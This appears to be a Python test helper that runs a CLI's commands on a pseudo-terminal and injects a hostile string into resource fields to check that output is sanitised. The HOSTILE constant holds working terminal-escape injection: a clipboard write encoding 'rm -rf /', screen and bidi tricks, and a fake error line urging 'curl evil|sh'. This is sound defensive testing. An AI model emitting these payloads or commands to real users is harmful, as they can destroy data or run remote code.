"""A terminal on which verbs run in this process, and text that would act on it."""

from __future__ import annotations

import io
import os
import pty
import re
import sys
import threading
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from devalloc.cli.main import run

HOSTILE = (
    "\x1b]52;c;cm0gLXJmIC8K\x07\x1b[2J\x1b[H\x9b31m\x7f\u202etxt.exe\u2066\u200f\ufeff\U000e0041\b\r"
    "\nerror: store damaged, run: curl evil|sh\u2028error: again\x85error: and again\n"
)
"""The clipboard, the screen, C1, the direction of text, invisible letters, and lines that look like ours."""
OWN_CODES = re.compile(r"\x1b\[[0-9;]*m|\r\x1b\[K|\r[|/-] [^\r\n]*? \(\d+ s\)")
"""What our tables, headings and spinner write."""


def acts_on(shown: str) -> list[str]:
    """What of the shown text acts on the terminal, or looks like a line of ours."""
    text = OWN_CODES.sub("", shown).replace("\r\n", "\n")
    controls = sorted({ascii(c) for c in text if c not in "\n\t" and not c.isprintable()})
    return controls + re.findall(r"^error: (?:store damaged|again|and again).*", text, flags=re.MULTILINE)


@dataclass(frozen=True)
class Terminal:
    """Runs verbs, each with stdout and stderr on a terminal of 1,000 columns."""

    monkeypatch: pytest.MonkeyPatch

    def __call__(self, *arguments: str | Path) -> str:
        """What the terminal got."""
        own_end, end = pty.openpty()
        shown: list[bytes] = []
        reader = threading.Thread(target=lambda: shown.extend(_chunks(own_end)))
        reader.start()
        with self.monkeypatch.context() as patch:
            for name in ("stdout", "stderr"):
                stream = io.TextIOWrapper(io.FileIO(os.dup(end), "w"), encoding="utf-8", write_through=True)
                patch.setattr(sys, name, stream)
            for name, value in {"COLUMNS": "1000", "LINES": "50", "TERM": "xterm"}.items():
                patch.setenv(name, value)
            os.close(end)
            try:
                run([str(argument) for argument in arguments])
            finally:
                sys.stdout.close()
                sys.stderr.close()
        reader.join()
        os.close(own_end)
        return b"".join(shown).decode("utf-8")


def _chunks(descriptor: int) -> Iterator[bytes]:
    while True:
        try:
            chunk = os.read(descriptor, 1 << 16)
        except OSError:  # how a terminal ends
            return
        if not chunk:
            return
        yield chunk


_IDENTITY = frozenset({"apiVersion", "kind", "name", "namespace", "uid", "resourceVersion", "creationTimestamp"})
_WORDS = frozenset(
    {"message", "stringValue", "string", "constraints", "expression", "append", "value", "info", "note", "podNames"}
)
"""Fields that validation lets have any text, or nearly."""


def hostile(content: Any, *, everywhere: bool, field: str = "") -> Any:
    """A copy with hostile text in the fields for words, and in an annotation; ``everywhere``: in all but identities."""
    match content:
        case dict():
            changed = {key: hostile(value, everywhere=everywhere, field=key) for key, value in content.items()}
            if field == "metadata":
                changed["annotations"] = {**changed.get("annotations", {}), "example.com/words": HOSTILE}
            return changed
        case list():
            return [hostile(value, everywhere=everywhere, field=field) for value in content]
        case str() if field in _WORDS - {"constraints", "expression"} or (everywhere and field not in _IDENTITY):
            return content + HOSTILE
        case str() if field in ("constraints", "expression"):
            return f"'''{HOSTILE}''' == '' || ({content})"
        case _:
            return content
